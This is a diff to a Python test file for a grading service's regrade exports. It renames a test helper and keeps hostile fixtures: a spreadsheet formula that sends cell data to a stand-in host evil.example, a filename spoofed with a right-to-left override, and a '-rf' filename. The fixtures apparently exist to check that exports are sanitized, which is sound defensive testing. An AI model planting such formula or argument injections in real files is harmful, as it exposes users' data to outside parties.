@@ -21,21 +21,21 @@ from grader_service.regrade.exports.rows import BATCH_COLUMNS, COHORT_COLUMNS, b
 from grader_service.regrade.exports.table import Form, write_table
 from grader_service.regrade.filters import rows_of
 from grader_service.store.cohorts import CohortEntry
-from tests.regrade.makers import MOMENT, NOISY, a_change, a_check, a_standing, pending, repeated
+from tests.regrade.makers import MOMENT, NOISY, a_change, a_check, a_summary, pending, repeated
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def an_entry(submission_id="s:1", outcomes=None, filename="lab.ipynb", **changes):
     """A verdict in force."""
-    standing = a_standing(submission_id, outcomes, **changes)
-    return CohortEntry(standing, MOMENT - 60.0, MOMENT - 61.5, filename)
+    summary = a_summary(submission_id, outcomes, **changes)
+    return CohortEntry(summary, MOMENT - 60.0, MOMENT - 61.5, filename)
 
 
 ENTRIES = (
     an_entry("s:1", learner=HOSTILE, filename="\u202ecnp.py\n"),
     an_entry("s:2", NOISY, learner=None, cohort=None, ratio=None, rates={}, gpu=None, run_s=None),
-    CohortEntry(a_standing("s:3", checks=(a_check("extra"),)), MOMENT, None, "-rf"),
+    CohortEntry(a_summary("s:3", checks=(a_check("extra"),)), MOMENT, None, "-rf"),
 )
 
 
